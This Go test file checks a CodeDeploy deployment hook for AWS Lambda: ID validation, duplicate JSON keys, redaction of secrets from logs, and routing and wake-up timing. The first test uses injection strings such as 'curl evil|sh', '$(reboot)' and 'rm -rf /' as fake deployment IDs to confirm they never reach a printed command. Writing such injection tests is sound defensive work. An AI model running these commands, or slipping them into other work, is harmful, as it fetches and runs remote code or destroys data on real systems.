package hook

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/meta-deployer/meta-deployer/internal/analysis"
	"github.com/meta-deployer/meta-deployer/internal/rollout"
	"github.com/meta-deployer/meta-deployer/internal/target"
)

// A person pastes the command of a message as it stands: only an id that is one of CodeDeploy's gets into it.
func TestNoCommandCarriesWhatIsNoID(t *testing.T) {
	for id, command := range map[string]string{
		"d-7BTV8G2N3":                  "--deployment-id d-7BTV8G2N3",
		"d-1; curl evil|sh #":          "--deployment-id ID",
		"d-$(reboot)":                  "--deployment-id ID",
		"d-":                           "--deployment-id ID",
		"x\nrm -rf /":                  "--deployment-id ID",
		"--debug":                      "--deployment-id ID",
		"d-" + strings.Repeat("A", 65): "--deployment-id ID",
	} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld()
			w.faults["Report"] = repeat(target.ErrRefused, 1)
			ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
			defer cancel()
			event, err := json.Marshal(map[string]string{deploymentKey: id, executionKey: executionID})
			require.NoError(t, err)
			_, err = w.preTraffic("").Invoke(ctx, event)
			require.ErrorAs(t, err, &NotReported{})
			assert.True(t, strings.HasSuffix(err.Error(), "; end the deployment: aws deploy stop-deployment "+command), err.Error())

			halves, err := json.Marshal(map[string]any{deploymentKey: id, executionKey: 7})
			require.NoError(t, err)
			_, err = w.preTraffic("").Invoke(ctx, halves)
			require.ErrorAs(t, err, &NotReported{})
			assert.True(t, strings.HasSuffix(err.Error(), "is ended by: aws deploy stop-deployment "+command), err.Error())
			assert.NotContains(t, w.log.String(), "\x1b")
		})
	}
}

// encoding/json would take a key in any case, and the last of two.
func TestKeysAreExactAndGivenOnce(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld()
		for _, event := range []string{
			`{"Lifecycle-Event":"pre-traffic","function-name":"f","alias":"live","new-version":"2"}`,
			`{"deploymentid":"d-7BTV8G2N3","lifecycleeventhookexecutionid":"e"}`,
		} {
			_, err := w.preTraffic(oneProbe).Invoke(t.Context(), []byte(event))
			require.ErrorAs(t, err, &UnknownEvent{}, event)
		}
		_, err := w.preTraffic(oneProbe).Invoke(t.Context(), []byte(`{"DeploymentId":"d-1","DeploymentId":"d-7BTV8G2N3","LifecycleEventHookExecutionId":"`+executionID+`"}`))
		require.ErrorAs(t, err, &NotReported{})
		require.ErrorContains(t, err, "the key DeploymentId is given twice")
		assert.Empty(t, w.reported)
		for event, reason := range map[string]string{
			`{"lifecycle-event":"pre-traffic","function-name":"f","alias":"live","new-version":"2","new-version":"1"}`: "the key new-version is given twice: give it once",
			`{"DeploymentId":"d-7BTV8G2N3","LifecycleEventHookExecutionId":"` + executionID + `","x":{"y":1,"y":2}}`:   "the key x.y is given twice: give it once",
		} {
			answer := ask(t, w.preTraffic(oneProbe), event, time.Minute)
			assert.Equal(t, Failed, answer.Status)
			assert.Contains(t, answer.Reason, reason)
		}
		assert.Empty(t, w.invoked)
		assert.Equal(t, []Status{Failed}, w.reported, "CodeDeploy is told all the same")

		event := `{"lifecycle-event":"pre-traffic","function-name":"f","FUNCTION-NAME":"other","alias":"live","new-version":"2","New-Version":"1"}`
		assert.Equal(t, Succeeded, ask(t, w.preTraffic(oneProbe), event, time.Minute).Status)
		assert.Equal(t, []string{"invoke f:2 {}"}, w.invoked, "a key that nobody knows is ignored, however near it is")
	})
}

func TestAnOldVersionThatIsNoneIsRefused(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld()
		event := `{"lifecycle-event":"pre-traffic","function-name":"f","alias":"live","old-version":"1:live","new-version":"2"}`
		answer := ask(t, w.preTraffic(`[{"compare": {}}]`), event, time.Minute)
		assert.Equal(t, Failed, answer.Status)
		assert.Contains(t, answer.Reason, `old-version is "1:live": give a published version's number`)
		w.target.OldVersion = "$LATEST"
		assert.Contains(t, ask(t, w.preTraffic(oneProbe), codeEvent, time.Minute).Reason, `currentVersion is "$LATEST"`)
		assert.Empty(t, w.invoked)
	})
}

// Payloads and answers may hold anything: the log has their digest and size.
func TestTheLogHasNothingSecret(t *testing.T) {
	for _, expected := range []string{"true", "false"} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld()
			w.serve = func(context.Context, []byte) ([]byte, string, error) {
				return []byte(`{"ok": true, "token": "hunter2"}`), "", nil
			}
			ask(t, w.preTraffic(`[{"name": "health", "payload": {"password": "hunter1"}, "expect": {"ok": `+expected+`}}]`), codeEvent, time.Minute)
			log := w.log.String()
			assert.NotContains(t, log, "hunter")
			assert.Contains(t, log, `payload="sha256 07918321, 23 bytes"`)
			assert.Contains(t, log, `answer="sha256 4030379c, 32 bytes"`)
		})
	}
}

func TestProbesOfATenant(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		w := newWorld()
		p := w.preTraffic("")
		_, err := p.ask(t.Context(), "f:2", rollout.Probe{Payload: json.RawMessage("{}"), TenantID: "blue"})
		require.NoError(t, err)
		assert.Equal(t, []string{"invoke f:2 {} for blue"}, w.invoked)
	})
}

// moving is what GetAlias shows while provisioned concurrency moves: a weight of Lambda's own on the old version.
var moving = rollout.Routing{Primary: "2", Secondary: "1", Weight: rollout.Full}

func TestPostTrafficWaitsWhileProvisionedConcurrencyMoves(t *testing.T) {
	for _, known := range []bool{true, false} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld()
			w.target.Alone = rolling
			if !known {
				w.target.Alone = time.Time{}
			}
			// What the old version failed meanwhile is in the alias's own series, not in that of the new version.
			w.minutes = []analysis.Minute{minute(1, analysis.Counts{}, analysis.Counts{Invocations: 50, Errors: 50})}
			w.routings = map[time.Duration]rollout.Routing{0: moving, 3 * time.Minute: {Primary: "2"}}
			answer := ask(t, w.postTraffic(""), codeEvent, 5*time.Minute)
			assert.Equal(t, Succeeded, answer.Status, answer.Reason)
			assert.WithinDuration(t, rolling.Add(3*time.Minute), time.Now(), 3*time.Second)
		})
	}
	synctest.Test(t, func(t *testing.T) {
		w := newWorld()
		w.routings = map[time.Duration]rollout.Routing{0: moving}
		answer := ask(t, w.postTraffic(""), codeEvent, 5*time.Minute)
		assert.Equal(t, Failed, answer.Status)
		assert.Contains(t, answer.Reason, "sends traffic to version 2 with 100 % on version 1, not to version 2 alone, seen for 4m50s: see who else moves it, "+
			"or where Lambda prepares provisioned concurrency give the hook function a longer timeout")
	})
}

// A read may be older than CodeDeploy's last write.
func TestPostTrafficLooksAgainForAMoment(t *testing.T) {
	before := rollout.Routing{Primary: "1", Secondary: "2", Weight: 90_00}
	for late, status := range map[time.Duration]Status{3 * time.Second: Succeeded, 30 * time.Second: Failed} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld()
			w.routings = map[time.Duration]rollout.Routing{0: before, late: {Primary: "2"}}
			answer := ask(t, w.postTraffic(""), codeEvent, 5*time.Minute)
			assert.Equal(t, status, answer.Status, answer.Reason)
			assert.Less(t, time.Since(rolling), 10*time.Second, "who moved it elsewhere is not waited for")
		})
	}
}

// awake wakes after a time that is counted from the first call, as Lambda wakes what has slept.
func TestPreTrafficWakesWhatSleeps(t *testing.T) {
	for takes, status := range map[time.Duration]Status{80 * time.Second: Succeeded, 10 * time.Minute: Failed} {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld()
			w.states = []target.Version{{State: "Inactive", UpdateStatus: "Successful"}}
			w.serve = func(context.Context, []byte) ([]byte, string, error) {
				if time.Since(rolling) < takes {
					return nil, "", fmt.Errorf("%w: ResourceNotReadyException: inactive", target.ErrUnavailable)
				}
				return []byte(`{}`), "", nil
			}
			answer := ask(t, w.preTraffic(`[{"name": "health", "max-ms": 1000}]`), codeEvent, 5*time.Minute)
			assert.Equal(t, status, answer.Status, answer.Reason)
			assert.Equal(t, []Status{status}, w.reported)
			if status == Failed {
				assert.Contains(t, answer.Reason, "ResourceNotReadyException")
			}
		})
	}
}
